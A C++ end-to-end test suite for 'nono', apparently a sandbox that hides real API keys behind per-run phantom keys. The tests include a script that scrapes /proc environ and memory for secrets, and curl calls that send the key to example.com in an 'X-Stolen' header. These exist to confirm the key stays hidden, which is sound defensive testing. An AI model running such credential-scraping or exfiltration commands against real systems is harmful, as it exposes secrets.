// Keys: the command holds a phantom, the vendor gets the real one, and the real one is nowhere
// else.

#include <fmt/format.h>
#include <catch2/catch.hpp>
#include <cstdlib>
#include <filesystem>

#include "tests/support/checkout.hpp"
#include "tests/support/stage.hpp"

namespace nono::testing {
namespace {

using Catch::Matchers::Contains;

Command with_key(const Stage& stage, const std::vector<std::string>& command,
                 const std::string& credential = "openai") {
  std::vector<std::string> arguments = {"-v", "--proxy-credential", credential, "--"};
  arguments.insert(arguments.end(), command.begin(), command.end());
  Command run_it = stage.nono_run(arguments);
  run_it.env["OPENAI_API_KEY"] = stage.real_key();
  return run_it;
}

// The origin recorded at least one request and each carried the real key.
void check_real_key_arrived(const Stage& stage) {
  const std::vector<nlohmann::json> requests = stage.requests();
  CHECK_FALSE(requests.empty());
  for (const nlohmann::json& request : requests) {
    CHECK(request["headers"].value("authorization", "") == "Bearer " + stage.real_key());
    CHECK(request["tls"] == true);
    CHECK(request["headers"].dump().find("nono_") == std::string::npos);
  }
}

void check_key_nowhere(const Stage& stage, const Finished& ended) {
  CHECK(ended.out.find(stage.real_key()) == std::string::npos);
  CHECK(ended.err.find(stage.real_key()) == std::string::npos);
  CHECK(stage.audit_text().find(stage.real_key()) == std::string::npos);
  CHECK_FALSE(stage.audit_text().empty());
}

std::optional<std::string> sdk_venv() {
  const char* venv = std::getenv("NONO_TEST_VENV");
  const std::string path = venv != nullptr ? venv : source_dir() + "/build/venv";
  if (!std::filesystem::exists(path + "/bin/python")) {
    std::puts("skipped by name: the vendor's SDK (no virtual environment with it)");
    return {};
  }
  return path;
}

void check_sdk(const std::string& way) {
  const auto stage = Stage::make();
  const auto venv = sdk_venv();
  if (!stage || !venv) return;
  stage->project_data("sdk.py");
  Command command = with_key(*stage, {*venv + "/bin/python", "sdk.py", way});
  command.argv.insert(command.argv.begin() + 2, {"--read", *venv});
  const Finished ended = run(command, 90s);
  INFO(ended.out << ended.err);
  CHECK(ended.code == 0);
  CHECK_THAT(ended.out, Contains("plain: the origin answers"));
  CHECK_THAT(ended.out, Contains("streamed: the origin answers in 3 events"));
  CHECK_THAT(ended.out, Contains("models: ['model-1']"));
  CHECK_THAT(ended.out, Contains("key sk-") && Contains("nono_"));
  CHECK_THAT(ended.out, Contains(way == "plain-url" ? "base https://api.openai.com"
                                                    : "base http://127.0.0.1"));
  check_real_key_arrived(*stage);
  check_key_nowhere(*stage, ended);
}

TEST_CASE("the vendor's SDK completes and streams through interception") {
  check_sdk("plain-url");
}

TEST_CASE("the vendor's SDK completes and streams through its base URL variable") {
  check_sdk("base-url");
}

TEST_CASE("a plain agent gets an answer both ways with the phantom alone") {
  const auto stage = Stage::make();
  if (!stage) return;
  stage->project_data("agent.py");
  const Finished ended = run(with_key(*stage, {"python3", "agent.py"}));
  INFO(ended.out << ended.err);
  CHECK(ended.code == 0);
  CHECK_THAT(ended.out, Contains("https 200") && Contains("base 200") && Contains("nono_"));
  check_real_key_arrived(*stage);
  CHECK(stage->requests().size() == 2);
  check_key_nowhere(*stage, ended);
}

TEST_CASE("no byte of the real key is anywhere the command can look") {
  const auto stage = Stage::make();
  if (!stage) return;
  stage->project_data("dump.py");
  stage->project_data("agent.py");
  const Finished ended = run(with_key(*stage, {"sh", "-c", "python3 agent.py && python3 dump.py"}));
  INFO(ended.err);
  CHECK(ended.code == 0);
  CHECK_THAT(ended.out, Contains("env OPENAI_API_KEY sk-") && Contains("file /proc/self/environ"));
  CHECK_THAT(ended.out, Contains("memory holds 0 real keys"));
  CHECK_THAT(ended.out, Contains("bundle SSL_CERT_FILE certificates") && !Contains("keys 1"));
  CHECK(ended.out.find(stage->real_key().substr(8)) == std::string::npos);
  check_key_nowhere(*stage, ended);
}

void check_processes_hide_the_key(std::optional<uid_t> user) {
  const auto stage = Stage::make(user);
  if (!stage) return;
  stage->project_file(
      "look.sh",
      "for p in /proc/[0-9]*; do cat $p/environ $p/cmdline $p/auxv 2>/dev/null | tr '\\0' '\\n'; "
      "dd if=$p/mem bs=1 count=1 2>/dev/null; ls -l $p/fd $p/exe 2>/dev/null; done; "
      "echo looked at $(ls -d /proc/[0-9]* | wc -l)\n");
  const Finished ended = run(with_key(*stage, {"sh", "look.sh"}));
  INFO(ended.err);
  CHECK_THAT(ended.out, Contains("looked at"));
  CHECK(ended.out.find(stage->real_key()) == std::string::npos);
}

TEST_CASE("no process that the command can see shows the real key") {
  check_processes_hide_the_key({});
}

TEST_CASE("no process that an ordinary user's command can see shows the real key") {
  check_processes_hide_the_key(ordinary_user);
}

TEST_CASE("two runs have two phantoms") {
  const auto stage = Stage::make();
  if (!stage) return;
  const std::vector<std::string> show = {"sh", "-c", "echo $OPENAI_API_KEY"};
  const Finished first = run(with_key(*stage, show));
  const Finished second = run(with_key(*stage, show));
  CHECK_THAT(first.out, Contains("sk-") && Contains("nono_"));
  CHECK(first.out != second.out);
}

TEST_CASE("a key that the origin echoes comes back as the phantom in every form") {
  const auto stage = Stage::make();
  if (!stage) return;
  for (const char* path : {"echo", "echo-encoded", "echo-gzip", "echo-split"}) {
    const std::string script = fmt::format(
        "curl -sS -i --compressed https://api.openai.com/v1/{} -H \"Authorization: Bearer "
        "$OPENAI_API_KEY\"; "
        "echo; curl -sS -i --compressed $OPENAI_BASE_URL/{} -H \"Authorization: Bearer "
        "$OPENAI_API_KEY\"",
        path, path);
    const Finished ended = run(with_key(*stage, {"sh", "-c", script}));
    INFO(path << "\n" << ended.out << ended.err);
    CHECK(ended.code == 0);
    CHECK_THAT(ended.out, Contains("200 OK"));
    if (std::string(path) != "echo-encoded") CHECK_THAT(ended.out, Contains("nono_"));
    CHECK(ended.out.find(stage->real_key()) == std::string::npos);
    CHECK(ended.out.find(base64(stage->real_key()).substr(0, 40)) == std::string::npos);
    CHECK(ended.out.find(base64("user:" + stage->real_key()).substr(8, 40)) == std::string::npos);
  }
}

TEST_CASE("a foreign key is refused on a credential's route") {
  const auto stage = Stage::make();
  if (!stage) return;
  const Finished ended = run(with_key(
      *stage, {"sh", "-c",
               "curl -s -o /dev/null -w '%{http_code}\\n' https://api.openai.com/v1/models -H "
               "'Authorization: Bearer sk-foreign-key'; "
               "curl -s -o /dev/null -w '%{http_code}\\n' $OPENAI_BASE_URL/models -H "
               "'Authorization: Bearer sk-foreign-key'; "
               "curl -s -o /dev/null -w '%{http_code}\\n' $OPENAI_BASE_URL/models"}));
  INFO(ended.out << ended.err);
  CHECK(ended.out.find("200") == std::string::npos);
  CHECK(stage->requests().empty());
}

TEST_CASE("a phantom on its way to another host is refused and audited") {
  const auto stage = Stage::make();
  if (!stage) return;
  const Finished ended = run(stage->nono_run(
      {"--proxy-credential", "openai=file://" + stage->dir().write("key", stage->real_key()),
       "--allow-domain", "example.com", "--", "sh", "-c",
       "curl -s -o /dev/null -w '%{http_code}\\n' http://example.com/hello -H \"X-Stolen: "
       "$OPENAI_API_KEY\"; "
       "curl -s -o /dev/null -w '%{http_code}\\n' http://example.com/hello?k=$OPENAI_API_KEY"}));
  INFO(ended.out << ended.err);
  CHECK(ended.out == "403\n403\n");
  CHECK(stage->requests().empty());
}

TEST_CASE("a credential allows its own upstream and closes everything else") {
  const auto stage = Stage::make();
  if (!stage) return;
  stage->project_data("fetch.py");
  const Finished ended = run(with_key(*stage, {"python3", "fetch.py", "http://example.com/hello"}));
  CHECK_THAT(ended.out, Contains("refused 403"));
  CHECK_FALSE(stage->asked_for("example.com"));
}

TEST_CASE("a key is read from a file and from a named variable") {
  const auto stage = Stage::make();
  if (!stage) return;
  stage->project_data("agent.py");
  const std::string file = stage->dir().write("secret/key", stage->real_key() + "\n", 0600);
  Command from_file =
      stage->nono_run({"--credential", "openai=file://" + file, "--", "python3", "agent.py"});
  CHECK_THAT(run(from_file).out, Contains("https 200") && Contains("base 200"));
  Command from_variable =
      stage->nono_run({"--credential", "openai=env://TEAM_KEY", "--", "python3", "agent.py"});
  from_variable.env["TEAM_KEY"] = stage->real_key();
  from_variable.env["OPENAI_API_KEY"] = "sk-another-real-key";
  const Finished ended = run(from_variable);
  CHECK_THAT(ended.out, Contains("https 200") && Contains("base 200"));
  CHECK_THAT(ended.out, !Contains("sk-another-real-key"));
  check_real_key_arrived(*stage);
}

bool keyring_tools() {
  const auto works = [](const std::string& script) {
    return run({{"sh", "-c", script}, plain_environment("/"), "", {}, ""}).code == 0;
  };
  if (works(
          "dbus-run-session -- true && command -v gnome-keyring-daemon && command -v secret-tool"))
    return true;
  std::puts("skipped by name: a session bus with gnome-keyring and secret-tool");
  return false;
}

// `nono run` with these arguments where a fresh keyring is unlocked that holds the real key under
// `account`.
Command in_keyring(const Stage& stage, const std::string& account,
                   const std::vector<std::string>& arguments) {
  Command command = stage.nono_run(arguments);
  const std::string script = source_dir() + "/tests/e2e/data/keyring.sh";
  command.argv.insert(command.argv.begin(),
                      {"dbus-run-session", "--", "bash", script, account, stage.real_key()});
  return command;
}

TEST_CASE("a key stored with secret-tool is read from a real keyring") {
  const auto stage = Stage::make();
  if (!stage || !keyring_tools()) return;
  stage->project_data("agent.py");
  for (const char* account : {"openai", "openai_api_key"}) {
    const Finished ended =
        run(in_keyring(*stage, account,
                       {"-v", "--proxy-credential", "openai", "--", "python3", "agent.py"}),
            90s);
    INFO(account << "\n" << ended.out << ended.err);
    CHECK(ended.code == 0);
    CHECK_THAT(ended.out, Contains("https 200") && Contains("base 200"));
    check_key_nowhere(*stage, ended);
    std::filesystem::remove_all(stage->home() + "/.local/share/keyrings");
  }
  check_real_key_arrived(*stage);
}

TEST_CASE("without a keyring a missing secret exits 1 with the variable to set") {
  const auto stage = Stage::make();
  if (!stage) return;
  const Finished ended =
      run(stage->nono_run({"--proxy-credential", "openai", "--", "touch", "started"}));
  CHECK(ended.code == 1);
  CHECK_THAT(ended.err, Contains("openai"));
  CHECK_THAT(ended.err, Contains("export OPENAI_API_KEY"));
  CHECK_FALSE(std::filesystem::exists(stage->project() + "/started"));
}

TEST_CASE("with a keyring a missing secret exits 1 with the command that stores it") {
  const auto stage = Stage::make();
  if (!stage || !keyring_tools()) return;
  const Finished ended = run(
      in_keyring(*stage, "unrelated", {"--proxy-credential", "openai", "--", "touch", "started"}),
      90s);
  INFO(ended.err);
  CHECK(ended.code == 1);
  CHECK_THAT(ended.err, Contains("nono key set openai") || Contains("secret-tool store"));
  CHECK_FALSE(std::filesystem::exists(stage->project() + "/started"));
}

TEST_CASE("a key stored by nono itself is used and listed and removed") {
  const auto stage = Stage::make();
  if (!stage || !keyring_tools()) return;
  stage->project_data("agent.py");
  const Command nono = stage->nono_run({"--credential", "openai", "--", "python3", "agent.py"});
  std::string words;
  for (const std::string& word : nono.argv) words += " '" + word + "'";
  const std::string binary = nono.argv.front();
  Command command = in_keyring(*stage, "unrelated", {});
  command.argv.resize(6);
  command.argv.insert(command.argv.end(),
                      {"sh", "-c",
                       "printf %s \"$KEY\" | " + binary + " key set openai && unset KEY && " +
                           binary + " key list && " + words + " && " + binary +
                           " key remove openai && " + binary + " key list"});
  command.env["KEY"] = stage->real_key();
  const Finished ended = run(command, 90s);
  INFO(ended.out << ended.err);
  CHECK(ended.code == 0);
  REQUIRE_THAT(ended.out, Contains("https 200") && Contains("base 200"));
  CHECK_THAT(ended.out.substr(0, ended.out.find("https 200")), Contains("openai"));
  CHECK_THAT(ended.out.substr(ended.out.rfind("200")), !Contains("openai"));
  check_key_nowhere(*stage, ended);
}

TEST_CASE("an unknown credential exits 1 or 2 with the names that exist") {
  const auto stage = Stage::make();
  if (!stage) return;
  const Finished ended = run(stage->nono_run({"--proxy-credential", "opanai", "--", "true"}));
  CHECK((ended.code == 1 || ended.code == 2));
  CHECK_THAT(ended.err, Contains("openai"));
}

TEST_CASE("another upstream's certificate is not accepted under the vendor's name") {
  const auto stage = Stage::make();
  if (!stage) return;
  stage->project_data("agent.py");
  Command command =
      stage->nono({"run", "--allow-cwd", "--audit-log", stage->audit_file(), "--dns-server",
                   stage->address() + ":5300", "--allow-private", "127.0.0.0/8",
                   "--proxy-credential", "openai", "--", "python3", "agent.py"});
  command.env["OPENAI_API_KEY"] = stage->real_key();
  const Finished ended = run(command);  // without --upstream-ca
  INFO(ended.out << ended.err);
  CHECK_THAT(ended.out, Contains("https 502") && Contains("base 502"));
  CHECK(stage->requests().empty());
}

TEST_CASE("the five bundle variables and the base URL are set") {
  const auto stage = Stage::make();
  if (!stage) return;
  const Finished ended = run(with_key(*stage, {"env"}));
  for (const char* name :
       {"SSL_CERT_FILE=", "REQUESTS_CA_BUNDLE=", "NODE_EXTRA_CA_CERTS=", "CURL_CA_BUNDLE=",
        "GIT_SSL_CAINFO=", "OPENAI_BASE_URL=http://127.0.0.1:"}) {
    CHECK_THAT(ended.out, Contains(name));
  }
}

TEST_CASE("a variable that holds a stored key under another name does not reach the command") {
  const auto stage = Stage::make();
  if (!stage) return;
  const std::string file = stage->dir().write("home/key", stage->real_key() + "\n", 0600);
  stage->project_data("agent.py");
  Command command = stage->nono_run(
      {"-v", "--credential", "openai=file://" + file, "--", "sh", "-c", "env; python3 agent.py"});
  command.env["HARMLESS_NOTE"] = stage->real_key();
  command.env["DEEPER_INSIDE"] = "bearer:" + stage->real_key() + ":end";
  command.env["UNTOUCHED"] = "stays";
  const Finished ended = run(command);
  INFO(ended.out << ended.err);
  CHECK(ended.code == 0);
  CHECK_THAT(ended.out + ended.err, !Contains(stage->real_key()));
  CHECK_THAT(ended.out, !Contains("HARMLESS_NOTE") && !Contains("DEEPER_INSIDE") &&
                            Contains("UNTOUCHED=stays") && Contains("https 200"));
  CHECK_THAT(ended.err, Contains("HARMLESS_NOTE") && Contains("DEEPER_INSIDE"));
}

}  // namespace
}  // namespace nono::testing
